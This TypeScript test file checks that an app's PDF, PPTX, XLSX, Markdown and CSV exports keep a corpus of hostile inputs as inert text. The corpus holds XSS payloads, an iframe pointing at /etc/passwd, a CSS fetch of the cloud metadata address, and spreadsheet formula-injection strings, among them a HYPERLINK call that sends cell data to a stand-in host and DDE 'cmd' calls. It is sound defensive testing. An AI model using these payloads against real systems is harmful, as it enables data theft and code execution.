// X6/X7/X8 of perf-reliability.md against ONE hostile corpus in ALL export formats. Hostile names and texts go in
// through the app's channels (initiatives, owners, KPIs, risks, gate conditions) and, for what the channels
// rightly refuse or trim (a 100k-character text, leading tab or carriage return), straight into the file, as a
// portfolio made by another tool would hold them. Then the real services and renderers export PDF, PPTX, XLSX,
// Markdown and CSV, and real consumers read the results: pdftotext, LibreOffice, exceljs, a CSV parser and a
// strict XML check. The renderer-level tests (exports/**) cover each format's own layout; this file is the one
// place where every format faces the same inputs.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { isFormulaLike } from '../../../shared/domain/pack/cells';
import { chromiumPdfEngine, findChromium } from '../exports/render/chromiumPdf';
import { pdfText, sofficeConvert } from '../exports/render/testing';
import type { PdfEngine } from '../ports';
import { FixedClock } from '../testing/fakes';
import { TempDirs } from '../testing/temp-dir';
import { readZipEntries } from '../testing/zip';
import { createTestCore, type TestCore } from '../testing/test-core';
import { packHtmlProblems } from './htmlCheck';
import { checkXmlWellFormed } from './xmlWellFormed';

const LONG = `LONG-START ${'Ω long text with <b>markup</b> & "quotes" 👩🏽‍💻 '.repeat(2600)} LONG-END`.slice(0, 100_000);

/** Markup that must stay text. Each is short enough for the app's own fields. */
const MARKUP = {
  script: '<script>window.__pwned=1</script>',
  img: '<img src=x onerror=alert(1)>',
  iframe: '<iframe src="file:///etc/passwd">',
  meta: '<meta http-equiv="refresh" content="0;url=https://x">',
  cdata: ']]>&amp;&lt;',
  style: '<style>body{background:url(http://169.254.169.254/latest)}</style>',
  link: '<link rel=preconnect href="https://x.example">',
  svg: '<svg><foreignObject><iframe src="https://x.example"></iframe></foreignObject></svg>',
} as const;

/** Text a spreadsheet would run as a formula. The tab and CR ones only get in through the file (inputs are trimmed). */
const FORMULAS = {
  hyperlink: '=HYPERLINK("http://x/?"&A1,"click")',
  at: "@SUM(1+1)*cmd|' /C calc'!A0",
  plus: '+1+cmd|x',
  minus: '-2+3+cmd|x',
  tab: '\t=1+1',
  cr: '\r=2+2',
} as const;

const CONTROL = 'Ctl\u0001bell\u001b[31mred';
const RTL = 'مبادرة الذكاء الاصطناعي \u202Eevil\u202C 👩🏽‍💻🚀 עברית';

const NOW = '2026-03-02T09:00:00.000Z';
const temps = new TempDirs();
let t: TestCore;
let outDir: string;
const htmls: string[] = [];
let htmlEngine: PdfEngine['htmlToPdf'] = () => Promise.reject(new Error('no engine yet'));
const files: Record<string, string> = {};
/** Initiative names as stored, the names the exports must show. */
let storedNames: string[] = [];

/** Text without any white space: extraction wraps table cells, the corpus strings are compared without it. */
/** 'ok', or what is wrong and the text around it, for a failure message that shows the cause. */
function xmlProblem(xml: string): string {
  const r = checkXmlWellFormed(xml);
  return r.ok ? 'ok' : `${r.error} near ${JSON.stringify(xml.slice(Math.max(0, r.offset - 60), r.offset + 60))}`;
}
const squeeze = (s: string) => s.replace(/\s+/g, '');
const unneutralise = (s: string) => (s.startsWith("'") && isFormulaLike(s.slice(1)) ? s.slice(1) : s);

beforeAll(async () => {
  const exe = findChromium();
  if (!exe) throw new Error('Chromium is needed for the PDF export (set FLIGHTDECK_CHROMIUM)');
  const chromium = chromiumPdfEngine({ executablePath: exe });
  htmlEngine = (html, opts) => chromium.htmlToPdf(html, opts);
  // The real Chromium engine, with the HTML it is handed kept for inspection.
  const pdfEngine: PdfEngine = {
    htmlToPdf: (html, opts) => {
      htmls.push(html);
      return chromium.htmlToPdf(html, opts);
    },
  };
  outDir = temps.make('flightdeck-hostile-');
  t = createTestCore({ clock: new FixedClock(NOW), pdfEngine, actor: 'Security Test' });
  await t.ok('workspace/openDefault');
  await t.ok('workspace/setup', { mode: 'empty' });

  const person = async (name: string) => (await t.ok('person/create', { name, title: MARKUP.img })).id;
  const sponsor = await person(MARKUP.img);
  const owner = await person(FORMULAS.hyperlink);
  await person(CONTROL);
  const lead = await person(RTL);

  const names = [
    MARKUP.script,
    MARKUP.iframe,
    MARKUP.meta,
    MARKUP.cdata,
    `${MARKUP.style} ${MARKUP.link}`,
    MARKUP.svg,
    RTL,
    FORMULAS.hyperlink,
    FORMULAS.at,
    FORMULAS.plus,
    FORMULAS.minus,
    'tab placeholder',
    'cr placeholder',
    'Pipes | and \\ backslash | in a name',
  ];
  const ids: number[] = [];
  for (const [n, name] of names.entries()) {
    const i = await t.ok('initiative/create', {
      name,
      description: `${MARKUP.script}\n# not a heading\n| a | b |\n${MARKUP.img} ${CONTROL} ${n}`,
      businessUnit: n % 2 ? FORMULAS.at : MARKUP.iframe,
      riskTier: 'minimal',
      plannedStart: '2026-01-01',
      plannedEnd: '2026-04-30',
      sponsorId: sponsor,
      productOwnerId: owner,
      techLeadId: lead,
    });
    ids.push(i.id);
  }
  const first = ids[0] ?? 0;
  await t.ok('kpi/create', {
    initiativeId: first,
    name: MARKUP.script,
    unit: '<b>u</b>',
    baselineValue: 10,
    baselineDate: '2026-01-01',
    baselineSource: FORMULAS.hyperlink,
    targetValue: 20,
    targetDate: '2026-12-31',
  });
  await t.ok('kpi/create', { initiativeId: ids[1] ?? 0, name: FORMULAS.at, baselineValue: 1, targetValue: 2 });
  await t.ok('kpi/create', { initiativeId: ids[2] ?? 0, name: CONTROL, baselineValue: 1, targetValue: 2 });
  for (const [n, title] of [MARKUP.iframe, FORMULAS.hyperlink, RTL, MARKUP.script].entries()) {
    await t.ok('risk/create', {
      initiativeId: ids[n] ?? null,
      title,
      description: `${MARKUP.meta} ${CONTROL}`,
      category: 'SECURITY',
      ownerId: sponsor,
      inherent: { likelihood: 5, impact: 5 },
    });
  }

  // A Conditional go whose condition (hostile text) is overdue by the export date: it becomes a decision asked for.
  const review = await t.ok('gate/request', { initiativeId: first, scheduledDate: '2026-03-03' });
  for (const [role, personId] of [
    ['BUSINESS_SPONSOR', sponsor],
    ['AI_PRODUCT_OWNER', owner],
    ['TECH_LEAD', lead],
  ] as const) {
    await t.ok('gate/signOff', { reviewId: review.review.id, role, personId, vote: 'APPROVE' });
  }
  await t.ok('gate/decide', {
    reviewId: review.review.id,
    decision: 'CONDITIONAL_GO',
    overrideReason: MARKUP.svg,
    notes: FORMULAS.plus,
    conditions: [{ text: `${MARKUP.script} ${FORMULAS.hyperlink}`, ownerId: owner, dueDate: '2026-03-05' }],
  });
  // And a second gate requested, so a "Decide G2" ask names the hostile initiative too.
  await t.ok('gate/request', { initiativeId: first, scheduledDate: '2026-03-20' });

  // What the inputs trim or limit, a hostile file holds anyway.
  const db = t.db();
  db.prepare('UPDATE initiatives SET name = ? WHERE name = ?').run(FORMULAS.tab, 'tab placeholder');
  db.prepare('UPDATE initiatives SET name = ? WHERE name = ?').run(FORMULAS.cr, 'cr placeholder');
  db.prepare('UPDATE initiatives SET description = ? WHERE id = ?').run(LONG, first);
  db.prepare('UPDATE people SET name = ? WHERE id = ?').run(`\t${MARKUP.script}`, lead);
  storedNames = db.prepare('SELECT name FROM initiatives ORDER BY id').pluck().all() as string[];

  t.clock.set('2026-03-10T09:00:00.000Z');
  for (const format of ['pdf', 'pptx', 'xlsx', 'md', 'csv'] as const) {
    const path = join(outDir, `pack.${format}`);
    t.dialogs.queueSave(path);
    await t.ok('export/pack', { format });
    files[format] = path;
  }
  // The one-initiative pack has the detail pages, where the 100k description shows.
  for (const format of ['pptx', 'md', 'pdf'] as const) {
    const path = join(outDir, `one.${format}`);
    t.dialogs.queueSave(path);
    await t.ok('export/pack', { format, initiativeId: first });
    files[`one.${format}`] = path;
  }
  const table = join(outDir, 'table.csv');
  t.dialogs.queueSave(table);
  await t.ok('export/table', {
    title: 'Risks',
    defaultName: 'Risks',
    columns: ['Title', 'Owner', 'Note'],
    rows: [...Object.values(FORMULAS), ...Object.values(MARKUP), CONTROL, RTL, LONG].map((v) => [v, MARKUP.img, 1]),
  });
  files.table = table;
}, 240_000);

afterAll(() => {
  t.dispose();
  temps.cleanup();
});

describe('hostile text stays text in every export', () => {
  it('the corpus is in the portfolio as stored (so the exports had it to render)', () => {
    expect(storedNames).toEqual(expect.arrayContaining([MARKUP.script, FORMULAS.tab, FORMULAS.cr, RTL]));
    expect(htmls.length).toBe(2);
  });

  it('PDF: the HTML handed to the engine has no active markup from data, and the PDF shows the literal text', () => {
    for (const html of htmls) {
      expect(packHtmlProblems(html)).toEqual([]);
      expect(html.match(/<[a-z]+[\s>]/g)?.length ?? 0).toBeGreaterThan(50);
      expect(html).toContain('&lt;script&gt;window.__pwned=1&lt;/script&gt;');
      expect(html).toContain('&lt;img src=x onerror=alert(1)&gt;');
    }
    const text = squeeze(pdfText(files.pdf ?? ''));
    for (const s of [MARKUP.script, MARKUP.img, MARKUP.iframe, MARKUP.cdata]) expect(text).toContain(squeeze(s));
    expect(text).toContain(squeeze(FORMULAS.hyperlink));
    const one = squeeze(pdfText(files['one.pdf'] ?? ''));
    expect(one).toContain('LONG-START');
  });

  it('PPTX: every XML part is well-formed, text is escaped, the long text is cut, and LibreOffice reads the literal text', async () => {
    for (const key of ['pptx', 'one.pptx']) {
      const entries = await readZipEntries(readFileSync(files[key] ?? ''));
      const xmlParts = [...entries.keys()].filter((f) => /\.(xml|rels)$/.test(f));
      expect(xmlParts.length).toBeGreaterThan(10);
      for (const part of xmlParts) {
        // Soft: one broken part is reported and the rest of the checks still run.
        expect.soft(xmlProblem(entries.get(part)?.toString('utf8') ?? ''), `${key}!${part}`).toBe('ok');
      }
      const slides = xmlParts.filter((f) => /^ppt\/slides\/slide\d+\.xml$/.test(f));
      const xml = slides.map((f) => entries.get(f)?.toString('utf8') ?? '').join('\n');
      expect(xml).not.toMatch(/<script|<iframe|<img|<meta/i);
      expect(xml).toContain('&lt;script&gt;window.__pwned=1&lt;/script&gt;');
      // X8: no run carries a 100k text; the longest stays a readable size.
      const runs = [...xml.matchAll(/<a:t>([^<]*)<\/a:t>/g)].map((m) => m[1]?.length ?? 0);
      expect(Math.max(...runs)).toBeLessThan(5_000);
      const rels = [...entries.entries()].filter(([f]) => f.endsWith('.rels')).map(([, b]) => b.toString('utf8'));
      expect(rels.join('\n')).not.toMatch(/TargetMode="External"/);
    }
    const dir = temps.make('flightdeck-hostile-soffice-');
    const produced = sofficeConvert(files.pptx ?? '', 'pdf', dir);
    expect(produced).toEqual(['pack.pdf']);
    const text = squeeze(pdfText(join(dir, 'pack.pdf')));
    expect(text).toContain(squeeze(MARKUP.script));
    expect(text).toContain(squeeze(MARKUP.img));
  }, 180_000);

  it('Markdown: no tag from data survives, and every table keeps its shape', () => {
    for (const key of ['md', 'one.md']) {
      const md = readFileSync(files[key] ?? '', 'utf8');
      expect(md).not.toMatch(/<\s*(script|img|iframe|meta|style|link|svg|foreignObject|b)\b/i);
      expect(md).toContain('&lt;script&gt;window.\\_\\_pwned=1&lt;/script&gt;');
      // Control characters have no business in a text file; ESC starts terminal escape sequences when it is printed.
      // eslint-disable-next-line no-control-regex
      expect.soft(md, `${key} holds C0 control characters`).not.toMatch(/[\u0001\u001b]/);
      // Tables: consecutive lines starting with '|'; each row has the header's cell count (escaped \| is text).
      const lines = md.split('\n');
      let tables = 0;
      for (let i = 0; i < lines.length; i++) {
        if (!lines[i]?.startsWith('|')) continue;
        const cells = (l: string) => l.replace(/\\\\/g, '').split(/(?<!\\)\|/).length;
        const width = cells(lines[i] ?? '');
        let j = i;
        while (lines[j]?.startsWith('|')) {
          expect(cells(lines[j] ?? ''), `${key} line ${j + 1}: ${lines[j]?.slice(0, 120)}`).toBe(width);
          j++;
        }
        tables++;
        i = j;
      }
      expect(tables).toBeGreaterThan(2);
      // No line of data became a heading.
      expect(md).not.toMatch(/^#+ not a heading/m);
    }
    // The portfolio table has one row per initiative.
    const md = readFileSync(files.md ?? '', 'utf8');
    const start = md.indexOf('| Initiative | Phase |');
    const block = md.slice(start).split('\n\n')[0]?.split('\n') ?? [];
    expect(block.length - 2).toBe(storedNames.length);
  });

  it('XLSX: exceljs reads back the literal text, no cell is a formula, formula-leading text is neutralised', async () => {
    const buf = readFileSync(files.xlsx ?? '');
    const entries = await readZipEntries(buf);
    for (const [part, bytes] of entries) {
      if (/\.(xml|rels)$/.test(part)) expect(xmlProblem(bytes.toString('utf8')), part).toBe('ok');
    }
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(buf as unknown as ArrayBuffer);
    const texts: string[] = [];
    const formulas: string[] = [];
    wb.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          if (cell.type === ExcelJS.ValueType.Formula || cell.formula) formulas.push(cell.address);
          if (typeof cell.value === 'string') texts.push(cell.value);
          else if (cell.value && typeof cell.value === 'object' && 'richText' in cell.value) {
            texts.push(cell.value.richText.map((r) => r.text).join(''));
          }
        }),
      ),
    );
    expect(formulas).toEqual([]);
    expect(texts.filter(isFormulaLike)).toEqual([]);
    // XML reads a raw CR in text as LF (end-of-line handling); only &#13; would keep it. Still neutralised.
    for (const f of Object.values(FORMULAS)) expect(texts).toContain(`'${f.replace(/\r/g, '\n')}`);
    for (const m of [MARKUP.script, MARKUP.img, MARKUP.iframe, MARKUP.meta, MARKUP.cdata, MARKUP.svg]) {
      expect(texts).toContain(m);
    }
    expect(texts).toContain('Ctlbell[31mred');
    expect(texts).toContain(RTL);
    // Excel's cell limit: the 100k description is cut, not dropped and not an error.
    const long = texts.find((s) => s.startsWith('LONG-START'));
    expect(long?.length).toBeLessThanOrEqual(32_767);
  });

  it('CSV: text is neutralised, and parsing it back (dropping the added quote) gives the stored text', () => {
    const rows = parse(readFileSync(files.csv ?? '', 'utf8').replace(/^\uFEFF/, ''), {
      relax_column_count: false,
    }) as string[][];
    const header = rows[0] ?? [];
    const nameCol = header.indexOf('Name');
    expect(nameCol).toBeGreaterThanOrEqual(0);
    const body = rows.slice(1);
    expect(body).toHaveLength(storedNames.length);
    for (const r of body) for (const cell of r) expect(isFormulaLike(cell), JSON.stringify(cell)).toBe(false);
    expect(body.map((r) => unneutralise(r[nameCol] ?? '')).sort()).toEqual([...storedNames].sort());
    const descCol = header.indexOf('Description');
    expect(body.some((r) => r[descCol] === LONG)).toBe(true);

    const table = parse(readFileSync(files.table ?? '', 'utf8').replace(/^\uFEFF/, '')) as string[][];
    const titles = table.slice(1).map((r) => r[0] ?? '');
    for (const cell of table.flat()) expect(isFormulaLike(cell)).toBe(false);
    expect(titles.map(unneutralise)).toEqual([
      ...Object.values(FORMULAS),
      ...Object.values(MARKUP),
      CONTROL,
      RTL,
      LONG,
    ]);
  });

  it('a control character in a name drawn on a chart (initiative, risk) does not stop the PDF or PPTX pack', async () => {
    // Chart labels go through SVG and resvg, which refuses XML-invalid characters; the name must be cleaned first.
    const c = createTestCore({
      clock: new FixedClock(NOW),
      pdfEngine: { htmlToPdf: (html, o) => htmlEngine(html, o) },
    });
    try {
      await c.ok('workspace/openDefault');
      await c.ok('workspace/setup', { mode: 'empty' });
      const i = await c.ok('initiative/create', { name: CONTROL, riskTier: 'minimal' });
      await c.ok('risk/create', {
        initiativeId: i.id,
        title: CONTROL,
        category: 'SECURITY',
        inherent: { likelihood: 5, impact: 5 },
      });
      for (const format of ['pdf', 'pptx'] as const) {
        c.dialogs.queueSave(join(outDir, `control.${format}`));
        const r = await c.invoke('export/pack', { format });
        expect.soft(r.ok ? 'ok' : r.error.message, format).toBe('ok');
      }
    } finally {
      c.dispose();
    }
  }, 120_000);
});
